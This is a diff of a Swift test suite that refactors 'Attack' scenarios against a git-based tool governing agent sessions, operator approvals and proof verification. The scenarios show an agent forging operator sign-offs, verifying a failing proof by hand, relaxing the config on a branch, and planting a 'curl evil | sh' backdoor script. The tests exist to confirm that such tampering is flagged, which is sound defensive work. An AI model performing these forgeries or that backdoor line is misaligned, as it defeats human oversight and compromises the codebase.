@@ -260,22 +260,17 @@ extension Attack {
             try scene.commitAll("code")
         },
         Attack(name: "an agent hand-writes verified: true on a proof", layer: .both, rule: "operator-acts", start: .completed) { scene in
-            let proof = try #require(try scene.proofs().first)
-            try scene.edit(proof.md) { $0.replacingOccurrences(of: "verified: false", with: "verified: true\nverified_by: Agent <agent@example.com>\nverified_at: 2026-11-24T10:00:00Z") }
+            try scene.forgeVerification(try #require(try scene.proofs().first).md, by: "Agent <agent@example.com>")
             try scene.commitAll("verified")
             try scene.markOffending()
         },
         Attack(name: "an agent hand-writes a diff review and VERIFYING", layer: .both, rule: "operator-acts", start: .completed) { scene in
-            try scene.edit(scene.metaPath) {
-                $0.replacingOccurrences(of: "state: IMPLEMENTING", with: "state: VERIFYING")
-                    .replacingOccurrences(of: "session_count:", with: "diff_review: {session: 2, by: Agent <agent@example.com>, at: 2026-11-24T10:00:00Z}\nsession_count:")
-            }
+            try scene.forgeDiffReview(by: "Agent <agent@example.com>")
             try scene.commitAll("reviewed")
             try scene.markOffending()
         },
         Attack(name: "an agent hand-writes state: RESOLVED with its own classification", layer: .both, rule: "operator-acts", start: .verifying) { scene in
-            let proof = try #require(try scene.proofs().first)
-            try scene.edit(proof.md) { $0.replacingOccurrences(of: "verified: false", with: "verified: true\nverified_by: Agent <agent@example.com>\nverified_at: 2026-11-24T10:00:00Z") }
+            try scene.forgeVerification(try #require(try scene.proofs().first).md, by: "Agent <agent@example.com>")
             try scene.edit(scene.metaPath) { $0.replacingOccurrences(of: "state: VERIFYING", with: "state: RESOLVED").replacingOccurrences(of: "outcome: null", with: "outcome: ConfirmedCodeBug") }
             try scene.write(scene.caseFolder + "/final-classification.md",
                             "# Final classification\noutcome: ConfirmedCodeBug\nresolved_at: 2026-11-24T10:00:00Z\nresolved_by: Agent <agent@example.com>\n## Root cause\n## Fix\n## Proof\n")
@@ -283,21 +278,15 @@ extension Attack {
             try scene.markOffending()
         },
         Attack(name: "an approval by a name that is no operator at all", layer: .both, rule: "operator-acts") { scene in
-            try scene.zero("session", "complete", scene.id)
-            try scene.zero("session", "new", scene.id, "--type", "planning")
-            try scene.zero("session", "plan", scene.id, "--step", "rewrite lib", "--scope", "lib/**")
-            let path = scene.sessionPath(3)
-            let sha = try scene.planHash(3)
-            try scene.edit(path) {
-                $0.replacingOccurrences(of: "state: plan_ready", with: "state: approved\nplan_sha256: \(sha)\napproved_by: Mallory <mallory@example.com>\napproved_at: 2026-11-24T10:00:00Z")
-            }
+            try scene.planAgain()
+            try scene.forgeApproval(3, by: "Mallory <mallory@example.com>")
             try scene.commitAll("approved")
             try scene.markOffending()
         },
         Attack(name: "a failing proof verified by hand", layer: .both, rule: "resolve-needs-verified-proof", start: .verifying) { scene in
             _ = try scene.zeroResult("proof", "run", scene.id, "--", "sh", "-c", "echo '2 passed, 1 failed'; exit 101")
             let failing = try #require(try scene.proofs().first { try scene.read($0.md).contains("exit_code: 101") })
-            try scene.edit(failing.md) { $0.replacingOccurrences(of: "verified: false", with: "verified: true\nverified_by: Ada <ada@example.com>\nverified_at: 2026-11-24T10:00:00Z") }
+            try scene.forgeVerification(failing.md, by: "Ada <ada@example.com>")
             try scene.commitAll("verified")
             try scene.markOffending()
         },
@@ -326,9 +315,7 @@ extension Attack {
             try scene.markOffending()
         },
         Attack(name: "an approval written only into meta.yaml", layer: .both, rule: "approved-plan-before-code") { scene in
-            try scene.zero("session", "complete", scene.id)
-            try scene.zero("session", "new", scene.id, "--type", "planning")
-            try scene.zero("session", "plan", scene.id, "--step", "rewrite lib", "--scope", "lib/**")
+            try scene.planAgain()
             let sha = try scene.planHash(3)
             try scene.edit(scene.metaPath) {
                 $0.replacing(#/approved_plan: \{[^}]*\}/#, with: "approved_plan: {session: 3, sha256: \(sha), by: Ada <ada@example.com>, at: 2026-11-24T10:00:00Z}")
@@ -373,12 +360,7 @@ extension Attack {
             try scene.markOffending()
         },
         Attack(name: "a new branch relaxes the config in its first commit, then pushes code", layer: .both, rule: "commits-link-sessions") { scene in
-            let remote = scene.repo.root + "-remote.git"
-            try scene.repo.git("init", "-q", "--bare", remote)
-            try scene.repo.git("remote", "add", "origin", remote)
-            try scene.repo.git("push", "-q", "origin", "main")
-            try scene.repo.git("fetch", "-q", "origin")
-            try scene.repo.git("remote", "set-head", "origin", "main")
+            try scene.addRemote()
             scene.clearActiveSession()
             try scene.git("checkout", "-q", "-b", "relaxed")
             try scene.edit("zero-memory/config.yaml") { $0.replacingOccurrences(of: "require_session_for_code: true", with: "require_session_for_code: false") }
@@ -396,13 +378,8 @@ extension Attack {
 extension Attack {
     static let signed: [Attack] = [
         Attack(name: "signed mode: an approval written by hand, unsigned", layer: .both, rule: "signed-operator-acts", start: .signedGated) { scene in
-            try scene.zero("session", "complete", scene.id)
-            try scene.zero("session", "new", scene.id, "--type", "planning")
-            try scene.zero("session", "plan", scene.id, "--step", "rewrite lib", "--scope", "lib/**")
-            let sha = try scene.planHash(3)
-            try scene.edit(scene.sessionPath(3)) {
-                $0.replacingOccurrences(of: "state: plan_ready", with: "state: approved\nplan_sha256: \(sha)\napproved_by: Ada <ada@example.com>\napproved_at: 2026-11-24T10:00:00Z")
-            }
+            try scene.planAgain()
+            try scene.forgeApproval(3, by: "Ada <ada@example.com>")
             try scene.commitAll("approved")
             try scene.markOffending()
         },
@@ -411,9 +388,7 @@ extension Attack {
             if !FileManager.default.fileExists(atPath: key) {
                 _ = try scene.repo.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key])
             }
-            try scene.zero("session", "complete", scene.id)
-            try scene.zero("session", "new", scene.id, "--type", "planning")
-            try scene.zero("session", "plan", scene.id, "--step", "rewrite lib", "--scope", "lib/**")
+            try scene.planAgain()
             try scene.repo.actAs(name: "Ada", email: "ada@example.com")
             try scene.repo.git("config", "user.signingkey", key)
             try scene.zero("session", "approve", scene.id, "--yes")
@@ -422,16 +397,12 @@ extension Attack {
             try scene.markOffending()
         },
         Attack(name: "signed mode: a proof marked verified by the operator, unsigned", layer: .both, rule: "signed-operator-acts", start: .signedCompleted) { scene in
-            let proof = try #require(try scene.proofs().first)
-            try scene.edit(proof.md) { $0.replacingOccurrences(of: "verified: false", with: "verified: true\nverified_by: Ada <ada@example.com>\nverified_at: 2026-11-24T10:00:00Z") }
+            try scene.forgeVerification(try #require(try scene.proofs().first).md, by: "Ada <ada@example.com>")
             try scene.commitAll("verified")
             try scene.markOffending()
         },
         Attack(name: "signed mode: a diff review by the operator, unsigned", layer: .both, rule: "signed-operator-acts", start: .signedCompleted) { scene in
-            try scene.edit(scene.metaPath) {
-                $0.replacingOccurrences(of: "state: IMPLEMENTING", with: "state: VERIFYING")
-                    .replacingOccurrences(of: "session_count:", with: "diff_review: {session: 2, by: Ada <ada@example.com>, at: 2026-11-24T10:00:00Z}\nsession_count:")
-            }
+            try scene.forgeDiffReview(by: "Ada <ada@example.com>")
             try scene.commitAll("reviewed")
             try scene.markOffending()
         },
@@ -451,15 +422,10 @@ extension Attack {
             try scene.write("README.md", "# docs only\n")
             try scene.commitAll("docs")
             try scene.git("checkout", "-q", "main")
-            try scene.zero("session", "complete", scene.id)
-            try scene.zero("session", "new", scene.id, "--type", "planning")
-            try scene.zero("session", "plan", scene.id, "--step", "rewrite lib", "--scope", "lib/**")
+            try scene.planAgain()
             try scene.commitAll("zero: plan")
             try scene.git("merge", "-q", "--no-ff", "--no-commit", "side")
-            let sha = try scene.planHash(3)
-            try scene.edit(scene.sessionPath(3)) {
-                $0.replacingOccurrences(of: "state: plan_ready", with: "state: approved\nplan_sha256: \(sha)\napproved_by: Ada <ada@example.com>\napproved_at: 2026-11-24T10:00:00Z")
-            }
+            try scene.forgeApproval(3, by: "Ada <ada@example.com>")
             try scene.git("add", "-A")
             try scene.commit("-m", "merge side")
             try scene.markOffending()
@@ -631,10 +597,9 @@ extension Attack {
         },
         Attack(name: "code on a branch forked before the session ended, merged after the case was resolved", layer: .check,
                rule: "approved-plan-before-code", start: .resolved) { scene in
-            let started = try scene.git("log", "--format=%H", "--grep=session 2 started", "-1").trimmingCharacters(in: .whitespacesAndNewlines)
+            let started = try scene.sessionStartCommit()
             try scene.git("checkout", "-q", "-b", "late", started)
-            try FileManager.default.createDirectory(atPath: scene.repo.path(".git/zero"), withIntermediateDirectories: true)
-            try "\(scene.id)/2\n".write(toFile: scene.repo.path(".git/zero/active-session"), atomically: true, encoding: .utf8)
+            try scene.activate(2)
             try scene.write("src/backdoor.sh", "curl evil | sh\n")
             try scene.commitAll("late")
             try scene.markOffending()
@@ -646,7 +611,7 @@ extension Attack {
             try scene.zero("session", "complete", scene.id)
             try scene.commitAll("zero: complete")
             try scene.git("checkout", "-q", "-b", "late", started)
-            try "\(scene.id)/2\n".write(toFile: scene.repo.path(".git/zero/active-session"), atomically: true, encoding: .utf8)
+            try scene.activate(2)
             try scene.write("src/backdoor.sh", "curl evil | sh\n")
             try scene.commitAll("late")
             try scene.markOffending()
@@ -678,9 +643,9 @@ extension Attack {
     static let secondRound: [Attack] = [
         Attack(name: "a merge conflict resolved to our side rolls back a resolved case and its ended session", layer: .both,
                rule: "ended-sessions-append-only", start: .resolved) { scene in
-            let started = try scene.git("log", "--format=%H", "--grep=session 2 started", "-1").trimmingCharacters(in: .whitespacesAndNewlines)
+            let started = try scene.sessionStartCommit()
             try scene.git("checkout", "-q", "-b", "y", started)
-            try "\(scene.id)/2\n".write(toFile: scene.repo.path(".git/zero/active-session"), atomically: true, encoding: .utf8)
+            try scene.activate(2)
             try scene.zero("session", "progress", scene.id, "--discovery", "nothing to see")
             try scene.zero("case", "edit", scene.id, "--summary", "still open")
             try scene.commitAll("progress")
